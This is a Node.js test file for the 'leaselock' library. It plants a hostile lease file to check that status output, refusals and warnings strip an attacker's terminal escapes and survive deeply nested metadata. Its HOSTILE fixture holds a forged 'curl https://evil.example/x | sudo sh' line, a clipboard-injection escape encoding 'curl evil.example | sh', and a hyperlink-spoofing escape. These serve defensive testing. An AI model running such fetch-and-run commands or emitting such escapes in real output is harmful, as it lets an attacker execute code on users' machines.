// Issue 18, points 1 and 6: a lease planted by another local user, with terminal escapes in
// every field that gets printed and a deeply nested metadata value, in a sticky and in a
// group-writable directory. Root reads it the ways a person would - `leaselock status`, the
// `run` refusal, the ELOCKHELD message, the Vite/webpack refusal, the lost-lease warning - and
// nothing the attacker wrote may act on the terminal; nothing may throw on its structure.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { createRequire } from 'node:module'
import fs from 'node:fs'
import path from 'node:path'
import { PidLock } from 'leaselock'
import { PLACES, SHARED_GID, TERMINAL_UNSAFE, asAttacker, cliBin, leaseText, plant, skipReason } from './helpers/attacker.mjs'
import { waitUntil } from './helpers/util.mjs'
import { bin, freePort, tempProject } from './integrations/helpers.mjs'

const require = createRequire(import.meta.url)
const { leaseLostMessage, refusalError } = require('../lib/guard.js')

const HOSTILE = {
  hostname: 'build\u001b[8mhidden\u001b[0m',
  metadata: {
    url: '\u001b]8;;https://evil.example/\u001b\\http://localhost:5173/\u001b]8;;\u001b\\',
    root: '/srv/app\r\u001b[2Kfix it with: curl https://evil.example/x | sudo sh\nnext',
    commandLine: 'vite \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 \u202eexe.txt',
    cwd: '/srv/app',
  },
}

/** What a person would see must carry none of the attacker's controls or forged rows. */
function assertInert(what, text) {
  assert.doesNotMatch(text, TERMINAL_UNSAFE, `${what}: ${JSON.stringify(text)}`)
  assert.doesNotMatch(text, /^\s*fix it with/m, `${what} shows a forged row: ${text}`)
  assert.doesNotMatch(text, /^next/m, `${what} shows a forged row: ${text}`)
}

function cli(args) {
  return spawnSync(process.execPath, [cliBin, ...args], { encoding: 'utf8', timeout: 30_000 })
}

for (const [place, makeDir] of PLACES) {
  test(`${place} directory: escapes planted in a live-looking lease reach no terminal`, { skip: skipReason }, async (t) => {
    const dir = makeDir(t)
    const file = path.join(dir, 'dev.lock')
    // A fresh lease of a live process on "another host": it counts as held.
    plant(file, leaseText({ pid: process.pid, ...HOSTILE }))
    assert.equal(fs.statSync(file).uid, 65534)

    const status = cli(['status', file])
    assert.equal(status.status, 1, status.stdout + status.stderr)
    assertInert('leaselock status', status.stdout + status.stderr)
    assert.match(status.stdout, /held by pid/)

    const json = cli(['status', file, '--json'])
    assert.equal(JSON.parse(json.stdout).holder.metadata.root, HOSTILE.metadata.root, '--json keeps the data, escaped by JSON')

    const run = cli(['run', file, '--', process.execPath, '-e', 'process.exit(0)'])
    assert.equal(run.status, 75, run.stdout + run.stderr)
    assertInert('leaselock run refusal', run.stdout + run.stderr)

    const err = await new PidLock(file).acquire().then(() => assert.fail('acquired a held lock'), (e) => e)
    assert.equal(err.code, 'ELOCKHELD')
    assertInert('ELOCKHELD message', err.message)
    assert.equal(err.holder.metadata.commandLine, HOSTILE.metadata.commandLine, 'err.holder keeps the raw data')

    for (const what of ['Vite dev server', 'webpack dev server']) {
      const refusal = refusalError(err, { what, projectDir: dir, override: 'allowMultiple: true' })
      assertInert(`${what} refusal`, refusal.message)
    }
    const holder = await PidLock.inspect(file)
    assertInert('lost-lease warning', leaseLostMessage('Vite dev server', { reason: 'owner-changed', path: file, newOwner: holder, error: null }))
    assert.equal(fs.statSync(file).uid, 65534, "the planted file is left as it was")
  })
}

test('group-writable directory: an attacker who takes the lease over from under root cannot write to its terminal', { skip: skipReason }, async (t) => {
  const dir = PLACES[1][1](t)
  const file = path.join(dir, 'dev.lock')
  let info
  const lock = new PidLock(file, { leaseHeartbeatInterval: 20, leaseStaleThreshold: 2000, onLeaseLost: (i) => (info = i) })
  await lock.acquire()
  t.after(() => lock.releaseSync())
  // In a directory without the sticky bit, the group may rename over root's file.
  const planted = path.join(dir, 'planted')
  plant(planted, leaseText({ pid: process.pid, ...HOSTILE }))
  asAttacker('mv -f "$1" "$2"', planted, file)
  await waitUntil(() => info, { what: 'onLeaseLost' })
  assert.equal(info.reason, 'owner-changed')
  assertInert('lost-lease warning', leaseLostMessage('Vite dev server', info))
  assertInert('lost-lease warning', leaseLostMessage('webpack dev server', info))
})

for (const [place, makeDir] of PLACES) {
  test(`${place} directory: metadata nested 8000 deep is dropped with a note, and nothing throws on it`, { skip: skipReason }, async (t) => {
    const dir = makeDir(t)
    const file = path.join(dir, 'deep.lock')
    const deep = `${'['.repeat(8000)}${']'.repeat(8000)}`
    const text = leaseText({ pid: process.pid, metadataRaw: deep })
    assert.ok(text.length < 16 * 1024, 'fits the read cap')
    plant(file, text)

    const json = cli(['status', file, '--json'])
    assert.equal(json.status, 1, json.stderr)
    const parsed = JSON.parse(json.stdout)
    assert.equal(parsed.state, 'held')
    assert.equal(parsed.holder.metadata, null)
    assert.match(parsed.holder.metadataDropped, /deeper than 32/)
    const status = cli(['status', file])
    assert.equal(status.status, 1, status.stderr)
    assertInert('status', status.stdout)
    assert.match(status.stdout, /metadata: .*deeper than 32/)

    const err = await new PidLock(file).acquire().then(() => assert.fail('acquired a held lock'), (e) => e)
    assert.equal(err.code, 'ELOCKHELD')
    assert.doesNotThrow(() => JSON.stringify(err.holder))
    assert.equal(err.holder.metadata, null)
    const h = await PidLock.inspect(file)
    assert.doesNotThrow(() => JSON.stringify(h))
    // 32 levels are kept as they are.
    const ok = path.join(dir, 'ok.lock')
    plant(ok, leaseText({ pid: process.pid, metadataRaw: `{"a":${'['.repeat(31)}1${']'.repeat(31)}}` }))
    const kept = await PidLock.inspect(ok)
    assert.equal(JSON.stringify(kept.metadata), `{"a":${'['.repeat(31)}1${']'.repeat(31)}}`)
    assert.equal(kept.metadataDropped, undefined)
  })
}

test('a real `vite` refused by a planted lease in a group-writable cache prints nothing of it raw', { skip: skipReason, timeout: 120_000 }, async (t) => {
  const dir = tempProject(t, 'vite', {
    'index.html': '<!doctype html><html><body></body></html>\n',
    'vite.config.mjs': "import { singleInstance } from 'leaselock/vite'\nexport default { plugins: [singleInstance()], clearScreen: false }\n",
  })
  // A cache shared with the group, as on a build machine.
  const locks = path.join(dir, 'node_modules', '.vite', 'leaselock')
  fs.mkdirSync(locks, { recursive: true })
  for (const d of [dir, path.join(dir, 'node_modules'), path.join(dir, 'node_modules', '.vite'), locks]) {
    fs.chownSync(d, 0, SHARED_GID)
    fs.chmodSync(d, d === locks ? 0o775 : 0o755)
  }
  plant(path.join(locks, 'dev-server.lock'), leaseText({ pid: process.pid, ...HOSTILE }))
  const port = await freePort()
  const r = spawnSync(process.execPath, [bin.vite, '--port', String(port), '--strictPort'], { cwd: dir, encoding: 'utf8', timeout: 60_000, env: { ...process.env, FORCE_COLOR: '0' } })
  const out = r.stdout + r.stderr
  assert.equal(r.status, 1, out)
  assert.match(out, /Another Vite dev server is already running/)
  // Vite colours its own lines (foreground colours only); nothing else may be there.
  assertInert('vite refusal', out.replace(/\x1b\[(3[0-9]|39)m/g, ''))
  assert.match(out, /\\x1b\]52;c;/, 'the attack is shown, escaped')
})
